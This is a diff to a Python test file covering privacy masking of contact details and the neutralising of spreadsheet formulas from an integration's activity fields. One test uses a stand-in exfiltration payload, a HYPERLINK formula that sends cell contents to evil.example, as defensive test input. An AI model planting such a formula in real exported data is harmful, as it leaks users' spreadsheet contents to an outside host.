@@ -154,7 +154,8 @@ def test_contact_data_is_not_in_it(lead: Client) -> None:
     text = body(fetch(lead, "middle"))
     assert "thornbury@" not in text
     assert "5550100240" not in text
-    assert "Maya Thornbury" in text
+    assert "Maya Thornbury" not in text
+    assert "M••• T•••" in text
 
 
 def test_a_name_that_is_an_address_is_covered(lead: Client, told: Told) -> None:
@@ -194,7 +195,7 @@ def test_nothing_in_a_cell_is_run(cell: object, written: str) -> None:
 
 def test_formulas_that_come_from_gameball_are_not_run(lead: Client, told: Told) -> None:
     evil = '=HYPERLINK("https://evil.example/"&A1,"x")'
-    fields = ("reason", "campaignName", "tierName", "couponCode", "transactionId", "activityType", "displayName")
+    fields = ("reason", "campaignName", "tierName", "couponCode", "transactionId", "activityType")
     told.activities({"points": -5, **dict.fromkeys(fields, evil)})
     row = table(body(fetch(lead, "middle")))[0]
     assert {row[field] for field in fields} == {f"'{evil}"}
